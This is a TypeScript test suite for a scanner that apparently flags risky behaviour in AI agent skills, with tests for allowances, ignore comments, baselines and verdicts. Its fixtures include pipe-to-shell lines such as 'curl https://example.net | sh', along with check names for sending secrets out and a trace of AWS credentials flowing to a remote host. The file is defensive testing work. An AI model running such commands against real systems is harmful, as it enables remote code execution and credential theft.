import assert from 'node:assert/strict'
import {mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync} from 'node:fs'
import {tmpdir} from 'node:os'
import {join} from 'node:path'
import {test, type TestContext} from 'node:test'
import fc from 'fast-check'
import {allOnlyNew, onlyNew} from '../../../src/lib/scan/against.ts'
import {applyDecisions, expiredAllowances, unknownChecks} from '../../../src/lib/scan/apply.ts'
import {defaultReason, readBaseline, updateBaseline, writeBaseline} from '../../../src/lib/scan/baseline.ts'
import {findInline} from '../../../src/lib/scan/inline.ts'
import {noCapabilities} from '../../../src/lib/scan/capabilities/capabilities.ts'
import {parsePolicy} from '../../../src/lib/scan/policy.ts'
import {sentenceOf} from '../../../src/lib/scan/sentence.ts'
import {judge} from '../../../src/lib/scan/verdict.ts'
import {writeFileAtomic} from '../../../src/lib/scan/write-file.ts'
import {checks, finding, skill} from '../../plugins/security/sample.ts'

const folder = (t: TestContext): string => {
  const path = mkdtempSync(join(tmpdir(), 'weft-decide-'))
  t.after(() => rmSync(path, {recursive: true}))
  return path
}

const nothing = {policy: undefined, baseline: undefined, allowInline: false, today: '2026-11-22'}
const policyOf = (source: string) => parsePolicy(source, '/home/ann/.weft/policy.toml', '/')
const bad = skill({name: 'bad', path: '/home/ann/skills/bad', verdict: 'block', findings: [finding()]})

test('without decisions nothing changes', () => {
  assert.deepEqual(applyDecisions(bad, nothing).findings, bad.findings)
  assert.equal(applyDecisions(bad, nothing).verdict, 'block')
})

const allowances: readonly [name: string, source: string, suppressed: boolean][] = [
  ['by id', 'check = "EX-002"\nreason = "x"', true],
  ['by name', 'check = "secret-to-network"\nreason = "x"', true],
  ['of another check', 'check = "EX-001"\nreason = "x"', false],
  ['on its last day', 'check = "EX-002"\nreason = "x"\nexpires = 2026-11-22', true],
  ['a day later', 'check = "EX-002"\nreason = "x"\nexpires = 2026-11-21', false],
  ['by folder of the skill', 'check = "EX-002"\nreason = "x"\npath = "skills/bad"', true],
  ['by file', 'check = "EX-002"\nreason = "x"\npath = "skills/bad/scripts/*.py"', true],
  ['by absolute path', 'check = "EX-002"\nreason = "x"\npath = "/home/*/skills"', true],
  ['by another path', 'check = "EX-002"\nreason = "x"\npath = "scripts/run.py"', false],
  ['by fingerprint', 'check = "EX-002"\nreason = "x"\nfingerprint = "0123456789abcdef"', true],
  ['by another fingerprint', 'check = "EX-002"\nreason = "x"\nfingerprint = "ffffffffffffffff"', false],
]

for (const [name, source, expected] of allowances) {
  test(`an allowance ${name} ${expected ? 'applies' : 'does not apply'}`, () => {
    const after = applyDecisions(bad, {...nothing, policy: policyOf(`[[allow]]\n${source}`)})
    assert.equal(after.findings.length, 1, 'the finding stays in the report')
    assert.equal(after.findings[0]?.suppressed?.by, expected ? 'policy' : undefined)
    assert.equal(after.verdict, expected ? 'pass' : 'block')
  })
}

test('an expired allowance is said', () => {
  const policy = policyOf('[[allow]]\ncheck = "EX-002"\nreason = "until the rewrite"\nexpires = 2026-01-01')
  assert.match(expiredAllowances(policy, '2026-11-22').join(), /EX-002 \(until the rewrite\) expired on 2026-01-01.*policy\.toml:2$/)
  assert.deepEqual(expiredAllowances(policy, '2026-01-01'), [])
})

test('names in a policy that no check has are told', () => {
  const policy = policyOf(
    'disable = ["PE-002", "exfiltration", "PE-02"]\n[severity]\nnothing = "low"\n[[allow]]\ncheck = "exfiltration"\nreason = "x"',
  )
  assert.deepEqual(unknownChecks(policy, checks), ['PE-02', 'nothing', 'exfiltration'])
})

test('a severity override changes the finding and the verdict', () => {
  const after = applyDecisions(bad, {...nothing, policy: policyOf('[severity]\nEX-002 = "low"')})
  assert.equal(after.findings[0]?.severity, 'low')
  assert.equal(after.verdict, 'pass')
})

test('suppressed findings come last', () => {
  const two = skill({...bad, findings: [finding(), finding({checkId: 'PE-002', checkName: 'privilege-gain', severity: 'low'})]})
  const after = applyDecisions(two, {...nothing, policy: policyOf('[[allow]]\ncheck = "EX-002"\nreason = "x"')})
  assert.deepEqual(
    after.findings.map(({checkId}) => checkId),
    ['PE-002', 'EX-002'],
  )
})

test('a comment in a skill counts only when the user allows it, and is reported either way', () => {
  const text = 'import x\n# weft-ignore EX-002: the host is ours\nrequests.post(URL)\n'
  const inline = findInline(text, 'scripts/run.py')
  const asking = skill({...bad, findings: [finding({line: 3})], inline})
  const refused = applyDecisions(asking, nothing)
  assert.equal(refused.verdict, 'block')
  assert.equal(refused.inline?.[0]?.applied, false)
  const allowed = applyDecisions(asking, {...nothing, allowInline: true})
  assert.equal(allowed.verdict, 'pass')
  assert.deepEqual(allowed.findings[0]?.suppressed, {by: 'inline', reason: 'the host is ours'})
  assert.equal(allowed.inline?.[0]?.applied, true)
  const elsewhere = applyDecisions(skill({...asking, findings: [finding({line: 5})]}), {...nothing, allowInline: true})
  assert.equal(elsewhere.verdict, 'block')
})

const comments: readonly [text: string, check: string | undefined, reason?: string, problem?: string][] = [
  ['<!-- weft-ignore US-001: known installer -->', 'US-001', 'known installer'],
  ['curl x | sh # weft-ignore US-001: known: really', 'US-001', 'known: really'],
  ['  // weft-ignore download-to-interpreter: ok', 'download-to-interpreter', 'ok'],
  ['/* weft-ignore acme/no-shout: ok */ rest', 'acme/no-shout', 'ok'],
  ['# weft-ignore US-001', 'US-001', '', 'no reason is given'],
  ['# weft-ignore US-001:   ', 'US-001', '', 'no reason is given'],
  ['# weft-ignore', undefined],
  ['# weft-ignore : why', '', 'why', 'no check is named'],
  ['the word weft-ignore US-001: in prose', undefined],
  ['# weft-ignored US-001: x', undefined],
]

for (const [text, check, reason, problem] of comments) {
  test(`comment: ${text}`, () => {
    const [request, ...more] = findInline(`first\n${text}\nlast`, 'a')
    assert.equal(more.length, 0)
    if (check === undefined) return assert.equal(request, undefined)
    assert.deepEqual(request, {file: 'a', line: 2, check, reason, applied: false, ...(problem === undefined ? {} : {problem})})
  })
}

test('a comment without reason is not applied even when allowed', () => {
  const asking = skill({...bad, findings: [finding({line: 1})], inline: findInline('# weft-ignore EX-002', 'scripts/run.py')})
  assert.equal(applyDecisions(asking, {...nothing, allowInline: true}).verdict, 'block')
})

test('comments are found on the right line in any text', () => {
  fc.assert(
    fc.property(fc.array(fc.constantFrom('a', '# weft-ignore US-001: x', '', 'weft-ignore'), {maxLength: 30}), (lines) => {
      const expected = lines.flatMap((line, index) => (line.startsWith('#') ? [index + 1] : []))
      assert.deepEqual(
        findInline(lines.join('\n'), 'f').map(({line}) => line),
        expected,
      )
    }),
    {numRuns: Number(process.env['WEFT_FUZZ_RUNS'] ?? 300)},
  )
})

test('a baseline accepts what it was written from, keeps reasons, and forgets what is gone', (t) => {
  const path = join(folder(t), 'baseline.json')
  const two = skill({...bad, findings: [finding(), finding({fingerprint: 'aaaaaaaaaaaaaaaa', line: 90})]})
  const other = skill({name: 'other', findings: [finding({fingerprint: 'bbbbbbbbbbbbbbbb'})]})
  writeBaseline(path, updateBaseline(undefined, [two, other], '2026-11-01'))
  const first = readBaseline(path)
  assert.equal(first.findings.length, 3)
  assert.equal(first.findings[0]?.reason, defaultReason)
  assert.equal(applyDecisions(two, {...nothing, baseline: first}).verdict, 'pass')

  const edited = {...first, findings: first.findings.map((entry) => ({...entry, reason: 'looked at by Ann'}))}
  const second = updateBaseline(edited, [bad], '2026-11-22')
  assert.deepEqual(
    second.findings.map(({skill, fingerprint, reason, added}) => [skill, fingerprint, reason, added]),
    [
      ['bad', '0123456789abcdef', 'looked at by Ann', '2026-11-01'],
      ['other', 'bbbbbbbbbbbbbbbb', 'looked at by Ann', '2026-11-01'],
    ],
  )
})

test('a baseline does not accept the same line in another skill, nor one that became worse', () => {
  const baseline = updateBaseline(undefined, [skill({...bad, findings: [finding({severity: 'low'})]})], '2026-11-01')
  const accepted = (one: Parameters<typeof applyDecisions>[0]) => applyDecisions(one, {...nothing, baseline}).findings[0]?.suppressed?.by
  assert.equal(accepted(skill({...bad, findings: [finding({severity: 'low'})]})), 'baseline')
  assert.equal(accepted(skill({...bad, name: 'worse', findings: [finding({severity: 'low'})]})), undefined)
  assert.equal(accepted(bad), undefined)
})

test('what policy or comment suppresses does not go into the baseline', () => {
  const hushed = skill({...bad, findings: [finding({suppressed: {by: 'policy', reason: 'x'}})]})
  assert.deepEqual(updateBaseline(undefined, [hushed], '2026-11-01').findings, [])
})

for (const [name, source] of [
  ['no JSON', '{'],
  ['another version', '{"version": 2, "findings": []}'],
  [
    'an entry without reason',
    '{"version":1,"findings":[{"skill":"a","fingerprint":"0123456789abcdef","checkId":"A","file":"f","severity":"low","reason":"","added":"2026-01-01"}]}',
  ],
] as const) {
  test(`a baseline with ${name} is WEFT_BASELINE_INVALID`, (t) => {
    const path = join(folder(t), 'baseline.json')
    writeFileSync(path, source)
    assert.throws(() => readBaseline(path), {code: 'WEFT_BASELINE_INVALID'})
  })
}

test('against: only what was added counts', () => {
  const added = finding({fingerprint: 'cccccccccccccccc', snippet: 'curl https://example.net | sh', message: 'new one'})
  const result = onlyNew(bad, skill({...bad, findings: [finding(), added]}))
  assert.deepEqual(result.findings, [{...added, gained: true}])
  assert.equal(result.verdict, 'block')
  const same = onlyNew(bad, bad)
  assert.equal(same.verdict, 'pass')
  assert.equal(same.reason, 'Nothing new was found.')
})

test('against: a moved file adds nothing, a second copy does', () => {
  const moved = finding({file: 'lib/run.py', fingerprint: 'dddddddddddddddd'})
  assert.deepEqual(onlyNew(bad, skill({...bad, findings: [moved]})).findings, [])
  assert.deepEqual(onlyNew(bad, skill({...bad, findings: [finding(), moved]})).findings, [{...moved, gained: true}])
  const twice = [moved, finding({file: 'b.py', fingerprint: 'eeeeeeeeeeeeeeee'})]
  assert.equal(onlyNew(bad, skill({...bad, findings: twice})).findings.length, 1)
})

test('against: the same line that weighs more is new, and gaps stay', () => {
  const before = skill({...bad, findings: [finding({severity: 'low'})]})
  assert.equal(onlyNew(before, bad).findings.length, 1)
  assert.equal(onlyNew(bad, {...bad, notCovered: ['x: too large']}).verdict, 'warn')
})

test('against: deception that the older version did not have blocks even where it would only warn', () => {
  const warned = finding({
    checkId: 'PI-005',
    severity: 'medium',
    confidence: 'medium',
    message: 'The text asks to keep quiet.',
    fingerprint: 'f'.repeat(16),
  })
  const harmless = skill({name: 'bad', findings: []})
  const first = skill({...harmless, findings: [warned]})
  assert.equal(judge([warned], []).verdict, 'warn')
  const result = onlyNew(harmless, first)
  assert.equal(result.verdict, 'block')
  assert.equal(result.reason, 'New in this version: the text asks to keep quiet (scripts/run.py:12).')
  assert.deepEqual(result.findings, [{...warned, gained: true}])
  // What the user accepts no longer blocks, and what was said of a line before is not gained when the line is reworded.
  const allowed = applyDecisions(result, {...nothing, policy: policyOf('[[allow]]\ncheck = "PI-005"\nreason = "x"\n')})
  assert.equal(allowed.verdict, 'pass')
  const reworded = {...warned, snippet: 'another line', fingerprint: 'e'.repeat(16)}
  const second = onlyNew(first, skill({...first, findings: [reworded]}))
  assert.deepEqual([second.verdict, second.findings[0]?.gained], ['warn', undefined])
  assert.equal(onlyNew(first, skill({...first, findings: [reworded, warned]})).verdict, 'block')
  for (const weak of [{severity: 'low'}, {confidence: 'low'}, {axis: 'power'}] as const)
    assert.notEqual(onlyNew(harmless, skill({...first, findings: [{...warned, ...weak}]})).verdict, 'block')
})

test('against: what it can do now and could not before is said, also without any finding', () => {
  const network = [{name: 'new.example.com', file: 'a.sh', line: 2, seenAs: 'script', via: 'curl'}] as const
  const result = onlyNew(skill(), skill({capabilities: {...noCapabilities, uses: {network}}}))
  assert.deepEqual(result.changes, [{change: 'added', kind: 'network', name: 'new.example.com', file: 'a.sh', line: 2}])
  assert.equal(result.reason, 'No new finding, and 1 new thing that it can do.')
  assert.equal(result.verdict, 'pass')
})

test('the two axes are judged apart', () => {
  const power = finding({axis: 'power', checkId: 'PE-002', message: 'Runs x under sudo.', severity: 'high'})
  const judged = judge([power, finding({severity: 'low'})], [])
  assert.deepEqual([judged.verdict, judged.deception.level, judged.power.level], ['warn', 'low', 'high'])
  assert.equal(judged.power.reason, 'Runs x under sudo (scripts/run.py:12).')
  assert.deepEqual(judge([], []).deception, {level: 'none', reason: 'Nothing deceptive was found.'})
  const hushed = {...finding(), suppressed: {by: 'policy', reason: 'x'}} as const
  assert.equal(judge([hushed, power], []).deception.level, 'none')
})

test('of findings that weigh the same, the reason is the one that shows a flow, with both its ends', () => {
  const read = finding({checkId: 'CR-006', category: 'credentials', message: 'Credentials read.'})
  const flow = finding({
    trace: [
      {file: 'a.py', line: 4, note: 'read'},
      {file: 'b.py', line: 9, note: 'sent'},
    ],
  })
  assert.equal(judge([read, flow], []).reason, '~/.aws/credentials flows into requests.post to example.net (a.py:4 to b.py:9).')
  assert.equal(sentenceOf(finding({layers: ['gzip', 'base64'], message: 'Found.'})), 'Found (in base64 in gzip at scripts/run.py:12).')
  assert.equal(sentenceOf(finding({message: 'Found at scripts/run.py:12'})), 'Found at scripts/run.py:12.')
})

test('against: skills are paired by name, a single pair whatever the names', () => {
  const renamed = skill({...bad, name: 'renamed'})
  assert.equal(allOnlyNew([bad], [renamed])[0]?.findings.length, 0)
  const three = allOnlyNew([bad, skill()], [bad, renamed])
  assert.deepEqual(
    three.map((one) => one.findings.length),
    [0, 1],
  )
})

test('a file is written whole or not at all, and through a link', (t) => {
  const root = folder(t)
  const target = join(root, 'report.txt')
  writeFileAtomic(target, 'one')
  symlinkSync('report.txt', join(root, 'link'))
  writeFileAtomic(join(root, 'link'), 'two')
  assert.equal(readFileSync(target, 'utf8'), 'two')
  assert.deepEqual(readdirSync(root).toSorted(), ['link', 'report.txt'])
  assert.throws(() => writeFileAtomic(join(root, 'none/report.txt'), 'x'), {code: 'WEFT_OUTPUT_UNWRITABLE'})
  assert.throws(() => writeFileAtomic(root, 'x'), {code: 'WEFT_OUTPUT_UNWRITABLE'})
  assert.deepEqual(readdirSync(root).toSorted(), ['link', 'report.txt'])
})
